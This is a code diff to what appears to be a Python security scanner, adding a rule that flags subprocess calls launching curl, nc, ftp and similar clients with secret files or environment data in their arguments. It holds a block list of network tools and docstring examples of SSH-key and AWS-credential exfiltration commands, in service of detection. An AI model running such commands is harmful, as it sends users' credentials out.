@@ -63,6 +63,9 @@ _REDIRECT_RE = re.compile(r"\d?>&?\d?\s*[^\s|;&`$]*")
 # Programs that fetch a URL, and the flag naming the file they write (-o, -O, --output,
 # --output-document, or the last of combined short flags: curl -sLo, wget -qO).
 _DOWNLOADERS = frozenset({"curl", "wget"})
+# Network clients that send what their arguments name (not scp/rsync/ssh: an identity file
+# is how they log in).
+_SENDERS = frozenset({"curl", "wget", "nc", "ncat", "netcat", "ftp", "tftp"})
 _OUTPUT_FLAG_RE = re.compile(r"^(?:-[a-zA-Z]{0,6}[oO]|--output(?:-document)?)$")
 _PIP_INSTALL_RE = re.compile(r"\bpip3?(?:\.exe)?\b[^|;&]*\binstall\b|-m\s+pip\b[^|;&]*\binstall\b")
 
@@ -173,6 +176,8 @@ class EffectRules(FileRules):
             )
         if cmd_node is not None and first.removesuffix(".exe") in _DOWNLOADERS and "://" in text:
             self._downloader(node, cmd_node, first, text)
+        if cmd_node is not None and first.removesuffix(".exe") in _SENDERS:
+            self._sender(node, cmd_node, first, text)
         if safe:
             self.emit(
                 "process.spawn",
@@ -253,6 +258,20 @@ class EffectRules(FileRules):
         if items and first.removesuffix(".exe") not in LAUNCHERS:
             return items[0]
         return cmd_node
+
+    def _sender(self, node: ast.Call, cmd_node: ast.AST, first: str, text: str) -> None:
+        """``curl -F f=@~/.ssh/id_rsa URL``, ``nc host port < ~/.aws/credentials``: a
+        network client started with a secret file or the environment in its arguments sends
+        it, as ``requests.post`` with it would (the same chain)."""
+        leak = self.taint_of(cmd_node) & {"secret", "env"}
+        if leak or sig._SECRET_RE.search(text):
+            self.emit(
+                "net.outbound",
+                "high",
+                node,
+                "py.net_send_secrets",
+                f"Starts '{first}' with a secret file or the environment in its arguments.",
+            )
 
     def _downloader(self, node: ast.Call, cmd_node: ast.AST, first: str, text: str) -> None:
         """``curl -o p URL`` / ``wget -O p URL`` started from the code: a download to disk
